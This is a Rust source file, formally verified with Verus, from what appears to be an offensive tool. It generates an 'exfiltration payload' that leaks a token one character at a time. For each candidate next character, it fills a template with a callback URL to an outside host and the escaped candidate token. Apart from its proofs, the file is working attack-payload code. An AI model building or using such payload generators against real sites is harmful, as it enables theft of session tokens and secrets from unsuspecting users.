//! Rendering of the exfiltration payload: one copy of the template for each
//! candidate next character.
use vstd::prelude::*;
use crate::escape::{escape_chars, escaped};
use crate::text::{chars_of, string_of};
use crate::urls::{callback_url, craft_callback_url, BaseUrl};

verus! {

/// `s` with every occurrence of `pat` replaced by `rep`, scanning from the
/// left; occurrences do not overlap. An empty pattern leaves `s` as it is.
pub open spec fn replaced(s: Seq<char>, pat: Seq<char>, rep: Seq<char>) -> Seq<char>
    decreases s.len(),
{
    if pat.len() == 0 || s.len() < pat.len() {
        s
    } else if s.take(pat.len() as int) == pat {
        rep + replaced(s.skip(pat.len() as int), pat, rep)
    } else {
        seq![s[0]] + replaced(s.skip(1), pat, rep)
    }
}

/// The marker in a template where the callback URL goes.
pub open spec fn callback_marker() -> Seq<char> {
    "{{:callback:}}"@
}

/// The marker in a template where the escaped candidate token goes.
pub open spec fn token_marker() -> Seq<char> {
    "{{:token:}}"@
}

/// The template filled in for the candidate `prefix` followed by `c`.
pub open spec fn fragment(
    template: Seq<char>,
    host: Seq<char>,
    id: Seq<char>,
    prefix: Seq<char>,
    c: char,
) -> Seq<char> {
    let candidate = prefix.push(c);
    replaced(
        replaced(template, callback_marker(), callback_url(host, id, candidate)),
        token_marker(),
        escaped(candidate),
    )
}

/// The fragments of a payload, one for each character of `charset`, in order.
pub open spec fn fragments(
    template: Seq<char>,
    host: Seq<char>,
    id: Seq<char>,
    charset: Seq<char>,
    prefix: Seq<char>,
) -> Seq<Seq<char>> {
    Seq::new(charset.len(), |i: int| fragment(template, host, id, prefix, charset[i]))
}

/// The texts of `parts` one after the other.
pub open spec fn joined(parts: Seq<Seq<char>>) -> Seq<char>
    decreases parts.len(),
{
    if parts.len() == 0 {
        Seq::empty()
    } else {
        joined(parts.drop_last()) + parts.last()
    }
}

/// The whole payload for a session whose known token is `prefix`.
pub open spec fn rendered(
    template: Seq<char>,
    host: Seq<char>,
    id: Seq<char>,
    charset: Seq<char>,
    prefix: Seq<char>,
) -> Seq<char> {
    joined(fragments(template, host, id, charset, prefix))
}

pub(crate) fn push_all(out: &mut Vec<char>, src: &Vec<char>)
    ensures
        final(out)@ == old(out)@ + src@,
{
    let mut i: usize = 0;
    while i < src.len()
        invariant
            i <= src@.len(),
            out@ == old(out)@ + src@.take(i as int),
        decreases src@.len() - i,
    {
        out.push(src[i]);
        i = i + 1;
        assert(out@ =~= old(out)@ + src@.take(i as int));
    }
    assert(src@.take(src@.len() as int) =~= src@);
}

fn matches_at(s: &Vec<char>, i: usize, pat: &Vec<char>) -> (r: bool)
    requires
        i <= s@.len(),
    ensures
        r == (i + pat@.len() <= s@.len() && s@.subrange(i as int, i + pat@.len()) == pat@),
{
    if pat.len() > s.len() - i {
        return false;
    }
    let slen = s.len();
    let mut j: usize = 0;
    while j < pat.len()
        invariant
            slen == s@.len(),
            i + pat@.len() <= s@.len(),
            j <= pat@.len(),
            forall|k: int| 0 <= k < j ==> s@[i + k] == pat@[k],
        decreases pat@.len() - j,
    {
        if s[i + j] != pat[j] {
            assert(s@.subrange(i as int, i + pat@.len())[j as int] != pat@[j as int]);
            return false;
        }
        j = j + 1;
    }
    assert(s@.subrange(i as int, i + pat@.len()) =~= pat@);
    true
}

/// Replaces every occurrence of `pat` in `s` by `rep`, from the left.
pub fn replace_chars(s: &Vec<char>, pat: &Vec<char>, rep: &Vec<char>) -> (r: Vec<char>)
    ensures
        r@ == replaced(s@, pat@, rep@),
{
    let n = s.len();
    let plen = pat.len();
    let mut out: Vec<char> = Vec::new();
    let mut i: usize = 0;
    assert(s@.skip(0) =~= s@);
    while i < n
        invariant
            n == s@.len(),
            plen == pat@.len(),
            i <= n,
            out@ + replaced(s@.skip(i as int), pat@, rep@) == replaced(s@, pat@, rep@),
        decreases n - i,
    {
        let ghost rest = s@.skip(i as int);
        let ghost before = out@;
        if plen > 0 && matches_at(s, i, pat) {
            assert(rest.take(plen as int) =~= s@.subrange(i as int, i + plen));
            assert(rest.skip(plen as int) =~= s@.skip(i + plen));
            push_all(&mut out, rep);
            i = i + plen;
            assert(out@ + replaced(s@.skip(i as int), pat@, rep@) =~= before + replaced(rest, pat@, rep@));
        } else {
            proof {
                if plen > 0 && rest.len() >= plen {
                    assert(rest.take(plen as int) =~= s@.subrange(i as int, i + plen));
                } else {
                    assert(replaced(rest, pat@, rep@) == rest);
                    assert(replaced(rest.skip(1), pat@, rep@) == rest.skip(1));
                }
            }
            assert(rest.skip(1) =~= s@.skip(i + 1));
            assert(rest =~= seq![s@[i as int]] + rest.skip(1));
            out.push(s[i]);
            i = i + 1;
            assert(out@ + replaced(s@.skip(i as int), pat@, rep@) =~= before + replaced(rest, pat@, rep@));
        }
    }
    assert(s@.skip(n as int) =~= Seq::<char>::empty());
    assert(out@ + Seq::<char>::empty() =~= out@);
    out
}

/// Renders the payload for a session whose known token is `known_token`:
/// for each character `c` of `charset`, in order, the template with the
/// callback URL for the candidate `known_token + c` in place of the callback
/// marker and the escaped candidate in place of the token marker.
pub fn process_template(
    template: &str,
    host: &BaseUrl,
    id: &str,
    charset: &str,
    known_token: &str,
) -> (r: String)
    ensures
        r@ == rendered(template@, host@, id@, charset@, known_token@),
{
    let tcs = chars_of(template);
    let cs = chars_of(charset);
    let known = chars_of(known_token);
    let cb_marker = chars_of("{{:callback:}}");
    let tk_marker = chars_of("{{:token:}}");
    let ghost parts = fragments(template@, host@, id@, charset@, known_token@);
    let mut out: Vec<char> = Vec::new();
    let mut i: usize = 0;
    assert(parts.take(0) =~= Seq::<Seq<char>>::empty());
    while i < cs.len()
        invariant
            cs@ == charset@,
            tcs@ == template@,
            known@ == known_token@,
            cb_marker@ == callback_marker(),
            tk_marker@ == token_marker(),
            parts == fragments(template@, host@, id@, charset@, known_token@),
            i <= cs@.len(),
            out@ == joined(parts.take(i as int)),
        decreases cs@.len() - i,
    {
        let mut candidate: Vec<char> = Vec::new();
        push_all(&mut candidate, &known);
        candidate.push(cs[i]);
        assert(candidate@ =~= known_token@.push(charset@[i as int]));
        let candidate_text = string_of(&candidate);
        let url = craft_callback_url(host, id, candidate_text.as_str());
        let url_chars = chars_of(url.as_str());
        let with_url = replace_chars(&tcs, &cb_marker, &url_chars);
        let escaped_candidate = escape_chars(&candidate);
        let piece = replace_chars(&with_url, &tk_marker, &escaped_candidate);
        assert(piece@ == parts[i as int]);
        let ghost before = out@;
        push_all(&mut out, &piece);
        i = i + 1;
        assert(parts.take(i as int).drop_last() =~= parts.take(i - 1));
        assert(out@ == joined(parts.take(i as int)));
    }
    assert(parts.take(cs@.len() as int) =~= parts);
    string_of(&out)
}

/// A payload holds one fragment for each character of the character set,
/// and is exactly those fragments one after the other.
pub proof fn lemma_one_fragment_per_char(
    template: Seq<char>,
    host: Seq<char>,
    id: Seq<char>,
    charset: Seq<char>,
    prefix: Seq<char>,
)
    ensures
        fragments(template, host, id, charset, prefix).len() == charset.len(),
        rendered(template, host, id, charset, prefix) == joined(
            fragments(template, host, id, charset, prefix),
        ),
{
}

} // verus!
